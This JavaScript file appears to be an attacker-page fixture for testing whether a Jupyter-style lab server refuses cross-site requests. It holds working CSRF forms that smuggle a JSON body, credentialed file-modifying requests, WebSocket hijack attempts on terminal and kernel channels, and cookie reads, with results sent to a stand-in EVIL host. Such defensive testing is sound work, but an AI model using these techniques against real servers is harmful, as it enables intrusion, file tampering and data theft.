// A page of the attacker: forms, requests, files as scripts and images, WebSockets, frames and windows of the
// laboratory. EVIL and LAB are the addresses of the attacker and of the laboratory, KERNEL is one that runs.

const BODY = '{"type": "directory"}';
const say = (what, result) => fetch(`${EVIL}did?` + new URLSearchParams({ what, result }));
const request = (path, options) => fetch(LAB + path, { credentials: 'include', ...options });
const report = (what, answer) => answer.then((done) => say(what, done.status), () => say(what, 'refused'));

['api/contents', 'api/kernels', 'api/terminals', 'api/sessions', 'logout'].forEach((path, at) => {
  const [form, field, frame] = ['form', 'input', 'iframe'].map((tag) => document.createElement(tag));
  // The body is JSON with one more field.
  Object.assign(field, { name: `${BODY.slice(0, -1)}, "x": "`, value: '"}' });
  Object.assign(form, { method: 'post', enctype: 'text/plain', action: LAB + path, target: `frame${at}` });
  frame.name = form.target;
  form.append(field);
  document.body.append(form, frame);
  form.submit();
});

for (const path of ['api/contents', 'api/kernels', 'api/terminals']) {
  request(path, { method: 'POST', mode: 'no-cors', body: BODY }).catch(() => 0);
}
report('PUT', request('api/contents/made', { method: 'PUT', body: BODY }));
report('DELETE', request('api/contents/page.html', { method: 'DELETE' }));
report('PATCH', request('api/contents/page.html', { method: 'PATCH', body: BODY }));
report('reads the interface', request('api/contents'));
report('reads a file', request('files/page.html'));

for (const [tag, path] of [['script', 'files/secret.js'], ['img', 'files/pixel.svg'], ['img', 'logout']]) {
  const element = document.createElement(tag);
  element.onload = () => say(`${tag} of /${path}`, `loaded ${self.secret || ''}`);
  element.onerror = () => say(`${tag} of /${path}`, 'refused');
  element.src = LAB + path;
  document.body.append(element);
}

for (const path of ['terminals/websocket/1', 'api/events/subscribe', `api/kernels/${KERNEL}/channels`]) {
  const socket = new WebSocket(LAB.replace('http', 'ws') + path);
  socket.onopen = () => say('WebSocket', 'opened');
  socket.onerror = () => say('WebSocket', 'refused');
}

const look = (what, read) => {
  let seen = 'refused';
  try {
    seen = read();
  } catch {
    // The browser refused.
  }
  say(what, seen);
};
const frame = document.createElement('iframe');
frame.src = `${LAB}lab`;
document.body.append(frame);
const opened = window.open(`${LAB}lab`);
setTimeout(() => {
  look('reads a frame', () => frame.contentDocument.body.innerHTML.length);
  look('reads a window', () => opened.document.cookie);
  opened.close();
}, 900);
